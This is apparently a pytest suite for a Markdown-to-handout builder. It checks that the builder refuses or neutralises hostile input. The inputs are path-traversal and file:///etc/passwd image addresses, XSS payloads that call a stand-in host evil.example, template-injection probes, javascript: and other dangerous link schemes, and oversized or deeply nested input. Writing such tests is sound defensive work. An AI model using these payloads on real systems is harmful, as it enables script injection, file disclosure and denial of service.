"""Attacks through Markdown: addresses, HTML, links and sizes. None may read, fetch, run, leak, hang or swell."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from builder.engine.workers.pool import Pool
from tests.support.attack_courses import (
    Files,
    attacked,
    png,
)
from tests.support.attacks import FRONT, SECRET

PICTURES = {
    "file address": "file:///etc/passwd",
    "path of the system": "/etc/passwd",
    "a folder up": "../../../secret.png",
    "a folder up, encoded": "%2e%2e/%2e%2e/%2e%2e/secret.png",
    "a folder up, in the middle": "a/../../../../secret.png",
    "http": "http://evil.example/x.png",
    "https with a port": "https://evil.example:8443/x.png",
    "no scheme": "//evil.example/x.png",
    "ftp": "ftp://evil.example/x.png",
    "data address": "data:image/svg+xml;base64,PHN2Zy8+",
    "Windows share": "\\\\evil.example\\x.png",
    "a NUL": "x\x00.png",
}


@pytest.mark.parametrize("name", PICTURES)
def test_pictures_from_elsewhere_are_refused(pool: Pool, tmp_path: Path, name: str) -> None:
    text = f'{FRONT}![Caption]({PICTURES[name]}){{alt="A"}}\n'
    outcome = attacked(pool, tmp_path, {"modules/x/module.md": text})
    assert outcome.codes & {"unsafe-asset", "missing-asset"}
    assert not outcome.outputs


def test_pictures_are_taken_from_the_module_and_the_shared_folder_alone(pool: Pool, tmp_path: Path) -> None:
    """What another module holds may be for its facilitators alone; so may what lies beside the modules."""
    places = ("modules/y/x.png", "modules/x.png", "modules/shared-not/x.png", "modules/xy/x.png", "themes/x.png")
    files: Files = dict.fromkeys((*places, "modules/shared/s.png", "modules/x/in/m.png"), png())
    for number, place in enumerate(places):
        files["modules/x/module.md"] = f'{FRONT}![C](../../{place}){{alt="A"}}\n'
        outcome = attacked(pool, tmp_path / str(number), files)
        assert "unsafe-asset" in outcome.codes, place
        assert not outcome.outputs
    files["modules/x/module.md"] = f'{FRONT}![C](../shared/s.png){{alt="A"}}\n\n![C](in/../in/m.png){{alt="A"}}\n'
    outcome = attacked(pool, tmp_path / "allowed", files)
    assert outcome.codes == set()
    assert outcome.outputs


HTML = {
    "script": "<script>fetch('http://evil.example')</script>",
    "image that fails": "<img src=x onerror=alert(1)>",
    "image of a file": '<img src="file:///etc/passwd">',
    "object": '<object data="file:///etc/passwd"></object>',
    "frame": '<iframe src="http://evil.example"></iframe>',
    "link to attach": '<link rel="attachment" href="file:///etc/passwd">',
    "anchor to attach": '<a rel="attachment" href="file:///etc/passwd">x</a>',
    "base": '<base href="file:///etc/"><img src="passwd">',
    "style": "<style>@page{size:10px} body{display:flex}</style>",
    "import": "<style>@import 'http://evil.example/x.css';</style>",
    "font": "<style>@font-face{font-family:x;src:url(http://evil.example)}</style>",
    "nested flex boxes": '<div style="display:flex">' * 12 + "x" + "</div>" * 12,
    "endless cell": '<table><tr><td colspan="65534" rowspan="65534">x</td></tr></table>',
    "huge type": '<p style="font-size:1e30px">x</p>',
    "drawing": '<svg><image href="file:///etc/passwd"/></svg>',
    "meta": '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "comment that ends early": "<!-- --><script>alert(1)</script> -->",
    "style by attribute": '[x]{style="background:url(http://evil.example)"}',
    "handler by attribute": '[x]{onclick="alert(1)"}',
    "template": "{{ ''.__class__.__mro__ }} {% include 'document.html' %} {{ 7*7 }}",
}


@pytest.mark.parametrize("name", HTML)
def test_html_of_the_authors_does_nothing(pool: Pool, tmp_path: Path, name: str) -> None:
    outcome = attacked(pool, tmp_path, {"modules/x/module.md": f"{FRONT}{HTML[name]}\n"})
    assert outcome.outputs or outcome.codes
    words = re.sub(r"&lt;|&#\d+;|&quot;", "", " ".join(outcome.outputs.values()))
    assert "49" not in re.findall(r"\}\} (\d+) ", words)
    tags = {
        name: re.sub(r"[\w'\"(]evil\.example|file:///etc/passwd|javascript:|/etc/passwd", "", text)
        for name, text in outcome.outputs.items()
    }
    for file, text in outcome.outputs.items():
        assert SECRET not in text
        assert "/EmbeddedFile" not in text
        assert not re.search(r"Target=\"file:", text), file
    page = tags.get("handout.html", "")
    assert not re.search(
        r"<(?:script(?! type=\"application/ld)|iframe|object|base|link rel=\"(?!icon)|meta http-equiv=\"refresh)", page
    )
    assert not re.search(r"<[^>]+\s(?:onclick|onerror|onload)=", page)


LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "data:text/html,x",
    "file:///etc/passwd",
]
LINKS += [
    "vbscript:x",
    "smb://evil.example/x",
    "ms-excel:ofe|u|http://evil.example",
    "\x01javascript:alert(1)",
    "//evil.example",
]


@pytest.mark.parametrize("address", LINKS)
def test_links_that_act_are_refused_or_no_links(pool: Pool, tmp_path: Path, address: str) -> None:
    outcome = attacked(pool, tmp_path, {"modules/x/module.md": f"{FRONT}A [word]({address}) here.\n"})
    assert "unsafe-link" in outcome.codes or not any(
        re.search(r"/URI|Target=\"(?!\.\.|/|slide|http://schemas)[^\"]*" + re.escape(address[-8:]), text)
        for text in outcome.outputs.values()
    )


DEEP = {
    "a word of a megabyte": "x" * 1_000_000,
    "an address of a megabyte": "http://a.example/" + "x" * 1_000_000,
    "200 divs": "".join(f"{':' * (203 - n)} note\n" for n in range(200)) + "x\n",
    "400 quotes": "> " * 400 + "x",
    "500 lists": "".join("  " * n + "- x\n" for n in range(500)),
    "100,000 stars": "*" * 100_000,
    "50,000 brackets": "[" * 50_000,
    "50,000 braces": "[x]{" * 12_000,
    "50,000 backticks": "`" * 50_001 + "x",
    "20,000 half links": "[x](" * 20_000,
    "5,000 footnotes": "".join(f"x[^{n}] " for n in range(5_000))
    + "\n\n"
    + "".join(f"[^{n}]: y\n\n" for n in range(5_000)),
    "a table of 30,000 cells": "|a|b|c|\n|-|-|-|\n" + "|x|y|z|\n" * 10_000,
    "a table of 2,000 columns": "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + "|x" * 2_000 + "|\n",
    "5 MB": "word " * 1_000_000,
    "100,000 lines": "x\n\n" * 50_000,
    "controls": "".join(map(chr, [*range(1, 32), 0x202E, 0xFFFE, 0xE000])) * 100,
    "20,000 entities": "&amp;&lt;&#x1F600;" * 7_000,
}


TOO_LARGE = {*DEEP} - {"200 divs", "400 quotes", "500 lists", "controls"}


@pytest.mark.parametrize("name", DEEP)
def test_what_is_deep_long_or_dense_is_refused_or_made(pool: Pool, tmp_path: Path, name: str) -> None:
    outcome = attacked(pool, tmp_path, {"modules/x/module.md": f"{FRONT}{DEEP[name]}\n"})
    assert outcome.outputs or outcome.codes
    assert bool(outcome.codes & {"too-large", "unreadable-source"}) == (name in TOO_LARGE)
